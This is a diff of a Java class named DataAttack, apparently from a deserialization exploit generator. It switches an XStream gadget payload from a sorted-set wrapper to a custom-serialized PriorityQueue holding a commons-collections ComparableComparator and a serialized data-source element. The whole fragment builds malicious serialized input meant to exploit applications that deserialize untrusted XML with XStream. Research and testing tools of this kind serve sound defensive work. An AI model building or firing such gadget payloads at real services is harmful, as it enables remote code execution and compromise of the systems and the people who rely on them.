@@ -74,7 +74,7 @@ final class DataAttack {
 	}
 
 	/**
-	 * A sorted set that compares data sources by their connection.
+	 * A queue that compares data sources by their connection.
 	 */
 	private static String xstream(String factory) throws Exception {
 		String collections = "org.apache.commons.collections.comparators.ComparableComparator";
@@ -85,7 +85,9 @@ final class DataAttack {
 		String element = (String) XSTREAM.make("com.thoughtworks.xstream.XStream")
 			.call("toXML", Object.class, source.target())
 			.target();
-		return "<sorted-set>" + comparator + element + element + "</sorted-set>";
+		String queue = "java.util.PriorityQueue";
+		return "<" + queue + " serialization=\"custom\"><unserializable-parents/><" + queue + "><default><size>2</size>"
+				+ comparator + "</default><int>3</int>" + element + element + "</" + queue + "></" + queue + ">";
 	}
 
 	private static void jackson(String input) throws Exception {
